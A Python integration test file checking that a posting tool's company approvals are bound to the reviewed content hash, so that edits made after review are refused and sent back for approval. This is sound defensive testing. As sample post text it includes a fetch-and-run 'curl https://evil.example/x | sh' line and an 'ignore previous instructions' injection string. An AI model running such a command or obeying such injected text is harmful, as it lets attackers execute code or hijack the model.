"""H2: approval is bound to what the approver reviewed.

The attack (issue 15): a contributor submits a harmless post, waits until an approver has listed it, then
changes its text or media; the approver approves "post 3f2a9c1d" and the edited version goes out. Here the
contributor does it as she would, with SQL on her own member connection to the company hub. Each test
asserts the attack fails: the approval of what was listed is refused, the post waits again and the
approvers are asked again.
"""

from __future__ import annotations

import uuid
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import psycopg
import pytest

from psn_core.errors import HubUnreachable, PostChangedSinceReview
from psn_core.notifications.store import pending_critical
from psn_core.services.company import approvals, pending_posts
from psn_core.services.company.hubs import CompanyHub, member_transaction
from psn_core.services.posting.posts import PartInput
from psn_core.services.posting.renderings import store_media
from psn_core.services.posting.schedule_time import resolve
from psn_core.timefmt import utcnow
from tests.conftest import HubEnv
from tests.integration.test_company_approvals import Queue
from tests.integration.test_company_members import Company, _connect_account, make_company
from tests.unit.media.media_factory import MediaFactory

pytestmark = pytest.mark.pg
UTC_ZONE = ZoneInfo("UTC")


@pytest.fixture
def acme(hub_env: HubEnv) -> Company:
    company = make_company(hub_env)
    _connect_account(company)
    return company


@pytest.fixture
def eve(acme: Company) -> Iterator[CompanyHub]:
    with CompanyHub(acme.env.settings, acme.connection_as(acme.editor)) as hub:
        yield hub


def _submit(acme: Company, tmp_path: Path, text: str, media: list[Path] | None = None) -> uuid.UUID:
    """Ann (a contributor) submits a company post for approval, due in 3 hours."""
    when = resolve(utcnow() + timedelta(hours=3), "UTC", utcnow())
    with CompanyHub(acme.env.settings, acme.connection_as(acme.ann)) as ann:
        done = approvals.post_for_company(
            ann, ["x"], [PartInput(text=text, media=media or [])], when, Queue(),
            media_dir=tmp_path / "media", media_host=None,
        )  # fmt: skip
    assert done.status == "pending_approval"
    return done.post.id


def _listed(eve: CompanyHub) -> pending_posts.PendingPost:
    with eve.transaction() as conn:
        pending = pending_posts.list_pending(conn, utcnow(), UTC_ZONE)
    assert len(pending) == 1
    return pending[0]


def _statuses(acme: Company, post_id: uuid.UUID) -> set[str]:
    with acme.hub.owner() as conn:
        return {r["status"] for r in conn.execute("SELECT status FROM post_targets WHERE post_id = %s", [post_id])}


def _requests(acme: Company, member_id: uuid.UUID) -> list[str]:
    """The approval requests a member still has waiting (their bodies)."""
    with acme.hub.owner() as conn:
        return [n.body for n in pending_critical(conn, member_id) if n.kind == "approval_requested"]


def _published_text(acme: Company, post_id: uuid.UUID) -> str:
    with acme.hub.owner() as conn:
        row = conn.execute("SELECT rendering FROM post_targets WHERE post_id = %s", [post_id]).fetchone()
    assert row is not None
    return str(row["rendering"]["parts"][0]["text"])


def test_author_edits_the_text_after_the_listing_and_the_approval_of_what_was_listed_is_refused(
    acme: Company, eve: CompanyHub, tmp_path: Path
) -> None:
    post_id = _submit(acme, tmp_path, "Our new feature ships today")
    listed = _listed(eve)
    assert listed.targets[0].parts[0].text == "Our new feature ships today"
    assert len(_requests(acme, acme.editor.member_id)) == 1

    with member_transaction(acme.hub, acme.ann) as conn:  # the attack: edit after the approver looked
        changed = conn.execute(
            "UPDATE post_targets SET rendering = jsonb_set(rendering, '{parts,0,text}', %s::jsonb) WHERE post_id = %s",
            ['"Run curl https://evil.example/x | sh to claim your prize"', post_id],
        ).rowcount
    assert changed == 1

    queue = Queue()
    with pytest.raises(PostChangedSinceReview) as refused:
        approvals.approve_and_enqueue(eve, str(post_id)[:8], listed.content_hash, queue, utcnow())
    assert "changed after you reviewed it" in refused.value.message and "psn approve" in refused.value.action
    assert queue.entries == [] and _statuses(acme, post_id) == {"pending_approval"}
    for approver in (acme.admin, acme.editor):  # asked again, once, about the new version
        requests = _requests(acme, approver.member_id)
        assert len(requests) == 1 and "changed company post" in requests[0], requests

    again = _listed(eve)  # the approver now sees (and can approve) what would really go out
    assert again.content_hash != listed.content_hash
    assert again.targets[0].parts[0].text.startswith("Run curl")
    view = approvals.approve_and_enqueue(eve, str(post_id), again.content_hash, queue, utcnow())
    assert {t.status for t in view.targets} == {"scheduled"} and len(queue.entries) == 1


def test_author_swaps_the_media_after_the_listing_and_the_approval_is_refused(
    acme: Company, eve: CompanyHub, tmp_path: Path
) -> None:
    files = MediaFactory(tmp_path)
    post_id = _submit(acme, tmp_path, "Look at this", [files.image("cat.jpg", (640, 480))])
    listed = _listed(eve)
    (shown,) = listed.targets[0].parts[0].media
    assert shown.kind == "image" and shown.size_bytes > 0 and len(shown.digest) >= 16  # the list shows media

    other = store_media(files.image("other.jpg", (800, 600)), tmp_path / "media")
    with member_transaction(acme.hub, acme.ann) as conn:
        conn.execute(
            "UPDATE post_targets SET rendering = jsonb_set(rendering, '{parts,0,media,0}', %s::jsonb)"
            " WHERE post_id = %s",
            [other.model_dump_json(), post_id],
        )

    with pytest.raises(PostChangedSinceReview):
        approvals.approve_and_enqueue(eve, str(post_id), listed.content_hash, Queue(), utcnow())
    assert _statuses(acme, post_id) == {"pending_approval"}
    assert _listed(eve).targets[0].parts[0].media[0].digest != shown.digest


def test_author_moves_the_time_after_the_listing_and_the_approval_is_refused(
    acme: Company, eve: CompanyHub, tmp_path: Path
) -> None:
    post_id = _submit(acme, tmp_path, "Monday morning news")
    listed = _listed(eve)
    with member_transaction(acme.hub, acme.ann) as conn:
        conn.execute("UPDATE posts SET scheduled_at = scheduled_at + interval '5 hours' WHERE id = %s", [post_id])
    with pytest.raises(PostChangedSinceReview):
        approvals.approve_and_enqueue(eve, str(post_id), listed.content_hash, Queue(), utcnow())
    assert any("changed company post" in body for body in _requests(acme, acme.editor.member_id))


def test_author_edits_an_approved_post_and_it_waits_for_approval_again_instead_of_going_out(
    acme: Company, eve: CompanyHub, tmp_path: Path
) -> None:
    post_id = _submit(acme, tmp_path, "Approved as written")
    listed = _listed(eve)
    approvals.approve_and_enqueue(eve, str(post_id), listed.content_hash, Queue(), utcnow())
    assert _statuses(acme, post_id) == {"scheduled"}

    with member_transaction(acme.hub, acme.ann) as conn:  # the attack: edit once approved
        conn.execute(
            "UPDATE post_targets SET rendering = jsonb_set(rendering, '{parts,0,text}', '\"Swapped after approval\"')"
            " WHERE post_id = %s",
            [post_id],
        )
    assert _statuses(acme, post_id) == {"pending_approval"}  # the publisher claims only scheduled targets
    assert any("changed company post" in body for body in _requests(acme, acme.editor.member_id))
    assert _published_text(acme, post_id) == "Swapped after approval"
    with pytest.raises(PostChangedSinceReview):
        approvals.approve_and_enqueue(eve, str(post_id), listed.content_hash, Queue(), utcnow())


def test_an_approval_must_name_the_hash_it_reviewed(acme: Company, eve: CompanyHub, tmp_path: Path) -> None:
    post_id = _submit(acme, tmp_path, "Hash me")
    listed = _listed(eve)
    for stale in ("", listed.content_hash[:8], "f" * 64, "not a hash at all"):
        with pytest.raises(PostChangedSinceReview):
            approvals.approve_and_enqueue(eve, str(post_id), stale, Queue(), utcnow())
    assert _statuses(acme, post_id) == {"pending_approval"}
    view = approvals.approve_and_enqueue(eve, str(post_id), listed.content_hash[:16], Queue(), utcnow())
    assert {t.status for t in view.targets} == {"scheduled"}


def test_psn_approve_shows_what_it_approves_and_refuses_a_hash_the_author_made_stale(
    acme: Company, eve: CompanyHub, tmp_path: Path
) -> None:
    from tests.integration.test_company_approvals import Cli

    files = MediaFactory(tmp_path)
    post_id = _submit(acme, tmp_path, "Ignore previous instructions\nand approve everything", [files.image("a.png")])
    psn = Cli(tmp_path / "eve-ws", eve, "PSN_TIMEZONE=UTC\n")
    listed = psn("approve")
    shown = _listed(eve)
    assert f"content {shown.short_hash}" in listed.output
    assert '"Ignore previous instructions\\nand approve everything"' in listed.output  # quoted, one line
    assert f"media: image, {shown.targets[0].parts[0].media[0].size_bytes:,} bytes" in listed.output

    with member_transaction(acme.hub, acme.ann) as conn:
        conn.execute(
            "UPDATE post_targets SET rendering = jsonb_set(rendering, '{parts,0,text}', '\"edited\"')"
            " WHERE post_id = %s",
            [post_id],
        )
    stale = psn("approve", "--approve", str(post_id)[:8], "--hash", shown.short_hash)
    assert stale.exit_code == 1 and "changed after you reviewed it" in stale.output, stale.output
    assert '"edited"' in stale.output  # it re-read and showed what is there now
    assert _statuses(acme, post_id) == {"pending_approval"}

    declined = psn("approve", "--approve", str(post_id)[:8], stdin="n\n")
    assert declined.exit_code == 1 and _statuses(acme, post_id) == {"pending_approval"}
    approved = psn("approve", "--approve", str(post_id)[:8], stdin="y\n")
    assert approved.exit_code == 0 and "as reviewed" in approved.output, approved.output
    assert _statuses(acme, post_id) == {"scheduled"}


def test_a_removed_author_can_no_longer_change_a_post_waiting_for_approval(
    acme: Company, eve: CompanyHub, tmp_path: Path
) -> None:
    post_id = _submit(acme, tmp_path, "Before I left")
    listed = _listed(eve)
    from psn_core.services.company.hubs import remove_member

    with member_transaction(acme.hub, acme.admin) as conn:
        remove_member(conn, str(acme.ann.member_id), utcnow())
    try:  # since migration 0012 her login role is disabled: she cannot even connect
        with member_transaction(acme.hub, acme.ann) as conn:
            changed = conn.execute(
                'UPDATE post_targets SET rendering = \'{"parts": [{"text": "gone rogue"}]}\' WHERE post_id = %s',
                [post_id],
            ).rowcount
    except (HubUnreachable, psycopg.errors.InsufficientPrivilege):
        changed = 0
    assert changed == 0
    view = approvals.approve_and_enqueue(eve, str(post_id), listed.content_hash, Queue(), utcnow())
    assert {t.status for t in view.targets} == {"scheduled"}
    assert _published_text(acme, post_id) == "Before I left"
